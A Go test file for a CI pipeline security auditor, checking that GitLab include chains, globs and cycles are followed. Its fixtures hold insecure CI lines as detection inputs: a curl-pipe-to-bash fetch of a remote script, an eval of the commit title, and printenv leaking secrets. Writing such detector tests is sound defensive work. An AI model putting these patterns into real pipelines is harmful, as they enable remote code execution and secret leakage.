package pipeline

import (
	"context"
	"fmt"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/socyber/codeaudit/internal/analyzer"
	"github.com/socyber/codeaudit/internal/source"
)

// TestGitLabLocalIncludes checks that files reached only through
// include: local: are audited once, nested includes and globs are
// followed, and pipeline-named files are left to AnalyzeFile.
func TestGitLabLocalIncludes(t *testing.T) {
	files := map[string]string{
		".gitlab-ci.yml":     "include:\n  - local: /ci/build.yml\n  - 'ci/jobs/*.yml'\nchild:\n  trigger:\n    include: ci/child.yml\n",
		"ci/child.yml":       "c:\n  script:\n    - printenv\n",
		"ci/build.yml":       "include: ci/nested/deep.yml\nbuild:\n  script:\n    - curl -s https://x.example/i.sh | bash\n",
		"ci/nested/deep.yml": "deep:\n  image: ruby\n  script: [make]\n",
		"ci/jobs/a.yml":      "a:\n  script:\n    - eval \"$CI_COMMIT_TITLE\"\n",
		"ci/jobs/b.yml":      "include: /ci/build.yml\n", // already seen: audited once
		"ci/other.yml":       "x:\n  image: node\n",      // not included
	}
	var inv []source.File
	for p := range files {
		inv = append(inv, source.File{Path: p})
	}
	slices.SortFunc(inv, func(a, b source.File) int {
		if a.Path < b.Path {
			return -1
		}
		return 1
	})
	p := &analyzer.Project{Files: inv, ReadFile: func(path string) ([]byte, error) {
		if c, ok := files[path]; ok {
			return []byte(c), nil
		}
		return nil, fmt.Errorf("no file %s", path)
	}}
	c := &collector{}
	if err := New(Options{}).AnalyzeProject(context.Background(), p, c); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range c.findings {
		got = append(got, fmt.Sprintf("%s:%d %s", f.Location.Path, f.Location.StartLine, f.RuleID))
	}
	slices.Sort(got)
	want := []string{
		"ci/build.yml:4 pipeline.gitlab.remote-script",
		"ci/child.yml:3 pipeline.gitlab.secret-in-log",
		"ci/jobs/a.yml:3 pipeline.gitlab.untrusted-variable-in-script",
		"ci/nested/deep.yml:2 pipeline.gitlab.unpinned-image",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if len(c.warnings) != 0 {
		t.Errorf("warnings: %v", c.warnings)
	}
}

// TestGitLabIncludeCycleAndDepth checks that include cycles terminate.
func TestGitLabIncludeCycle(t *testing.T) {
	files := map[string]string{
		".gitlab-ci.yml": "include: a.yml\n",
		"a.yml":          "include: b.yml\n",
		"b.yml":          "include: a.yml\nj:\n  image: node\n",
	}
	var inv []source.File
	for _, p := range []string{".gitlab-ci.yml", "a.yml", "b.yml"} {
		inv = append(inv, source.File{Path: p})
	}
	p := &analyzer.Project{Files: inv, ReadFile: func(path string) ([]byte, error) { return []byte(files[path]), nil }}
	c := &collector{}
	if err := New(Options{}).AnalyzeProject(context.Background(), p, c); err != nil {
		t.Fatal(err)
	}
	if len(c.findings) != 1 || c.findings[0].Location.Path != "b.yml" {
		t.Errorf("findings = %+v", c.findings)
	}
}
